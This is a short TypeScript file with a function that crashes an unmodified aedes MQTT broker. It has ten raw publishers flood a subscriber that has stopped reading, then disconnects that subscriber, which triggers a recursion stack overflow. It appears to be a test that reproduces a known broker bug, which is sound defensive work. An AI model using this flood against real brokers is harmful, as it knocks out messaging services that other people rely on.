import { ask, closed, connectPacket, deafSubscriber, publishPacket, rawConnection } from './raw-mqtt.ts';

const PUBLISHERS = 10;
/** Number of bytes that a broker reads at once: about 3,000 of the small messages below. */
const BYTES = 64 * 1024;

/**
 * Makes the stack of an unmodified aedes overflow: a subscriber stops reading, many messages for it wait in aedes' queue, and then the
 * subscriber disconnects. aedes processes messages without a subscriber by recursion (field case A5).
 */
export async function overflow(url: string): Promise<void> {
  const deaf = await deafSubscriber(url);
  const message = publishPacket('flood', 'x'.repeat(10));
  const flood = Buffer.concat(Array.from({ length: Math.floor(BYTES / message.length) }, () => message));
  const publishers = await Promise.all(
    Array.from({ length: PUBLISHERS }, async (_, index) => {
      const socket = await rawConnection(url);
      await ask(socket, connectPacket(`publisher-${index}`));
      return socket;
    }),
  );
  // The messages are sent twice, because the broker may survive the first time.
  for (let times = 0; times < 2; times += 1)
    await Promise.all(publishers.map((socket) => new Promise((sent) => socket.write(flood, sent))));
  // When the broker answers this later request, it has read the messages of the other clients.
  const witness = await rawConnection(url);
  await ask(witness, connectPacket('witness'));
  deaf.destroy();
  await closed(deaf);
}
